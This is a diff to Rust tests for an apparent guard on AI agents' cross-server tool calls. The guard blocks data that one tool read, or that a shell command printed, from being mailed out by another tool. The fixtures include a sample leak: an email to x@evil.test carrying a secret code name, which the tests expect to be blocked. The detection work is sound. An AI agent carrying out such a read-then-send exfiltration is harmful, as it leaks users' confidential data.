@@ -333,7 +333,7 @@ fn check(rules: &CrossRules, history: &[Call<'_>], next: Call<'_>, args: Value) 
                 if p.server_id == call.server {
                     since(back.own_ms)
                 } else {
-                    p.class == ToolClass::Read && since(back.other_reads_ms)
+                    p.class.leaves_marks() && since(back.other_reads_ms)
                 }
             })
             .map(|p| Prior {
@@ -425,6 +425,8 @@ fn read_then_send_and_flow_table() {
         ..d.clone()
     };
     let read = || with_result(c("docs", "read_file", Read, 1_000), DOC);
+    // A command that printed the document (`cat memo.txt`).
+    let command = || with_result(c("shell", "run_command", Compute, 1_000), DOC);
     let leak = json!({"to": "x@evil.test", "body": "memo says BLUEHERON-7731 fyi"});
     let copy = json!({"body": "the acquisition code name is"});
     let plain = json!({"to": "team@corp.test", "body": "standup moved to 10"});
@@ -436,6 +438,22 @@ fn read_then_send_and_flow_table() {
             c("mail", "send_email", Send, 5_000),
             leak.clone(),
             "block cross_server.read_then_send critical",
+        ),
+        (
+            "a command's output carried out",
+            &d,
+            vec![command()],
+            c("mail", "send_email", Send, 5_000),
+            leak.clone(),
+            "block cross_server.read_then_send critical",
+        ),
+        (
+            "a command is no read for the sequence alone",
+            &strict,
+            vec![command()],
+            c("mail", "send_email", Send, 5_000),
+            plain.clone(),
+            "allow",
         ),
         (
             "substring leak",
@@ -1319,6 +1337,12 @@ fn only_calls_that_still_matter_outlive_an_exit() {
         (
             ToolClass::Unknown,
             25_000,
+            true,
+            "its result's marks can still be linked (30 s)",
+        ),
+        (
+            ToolClass::Write,
+            25_000,
             false,
             "past burst and rate windows",
         ),
@@ -1331,7 +1355,7 @@ fn only_calls_that_still_matter_outlive_an_exit() {
         ..CrossRules::default()
     };
     assert!(
-        !unlimited.outlives_exit(ToolClass::Unknown, 1),
+        !unlimited.outlives_exit(ToolClass::Write, 1),
         "no limit counts it"
     );
     assert!(
